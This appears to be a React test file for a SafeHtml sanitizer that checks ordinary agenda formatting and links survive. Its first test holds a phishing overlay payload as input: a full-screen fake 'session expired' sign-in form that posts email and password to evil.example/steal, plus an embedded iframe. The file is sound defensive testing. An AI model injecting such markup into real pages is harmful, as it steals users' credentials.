import { render, screen } from '@testing-library/react';
import { SafeHtml } from './safe-html.tsx';

describe('SafeHtml', () => {
  it('drops a full-screen fake sign-in form: no style attribute, form, inputs or buttons survive', () => {
    const overlay =
      '<div style="position:fixed;inset:0;z-index:9999;background:#fff">' +
      '<form action="https://evil.example/steal"><p>Your session expired</p>' +
      '<input name="email"><input type="password" name="password"><textarea></textarea>' +
      '<select><option>x</option></select><button>Sign in</button></form>' +
      '<iframe src="https://evil.example"></iframe><p style="color:red">Agenda item</p></div>';
    const { container } = render(<SafeHtml html={overlay} />);

    expect(container.querySelector('[style]')).toBeNull();
    expect(container.querySelector('form, input, textarea, select, button, iframe')).toBeNull();
    expect(screen.queryByRole('button')).toBeNull();
    expect(screen.queryByRole('textbox')).toBeNull();
    // The harmless text stays readable.
    expect(screen.getByText('Agenda item')).toBeInTheDocument();
    expect(screen.getByText('Your session expired')).toBeInTheDocument();
  });

  it('keeps ordinary agenda formatting and links', () => {
    const { container } = render(
      <SafeHtml
        html={
          '<h3>Open networking</h3><ul><li><strong>7:00</strong> Welcome</li></ul><a href="https://example.com">Slides</a>'
        }
      />,
    );
    expect(screen.getByRole('heading', { name: 'Open networking' })).toBeInTheDocument();
    expect(container.querySelector('li strong')).toHaveTextContent('7:00');
    expect(screen.getByRole('link', { name: 'Slides' })).toHaveAttribute('href', 'https://example.com');
  });
});
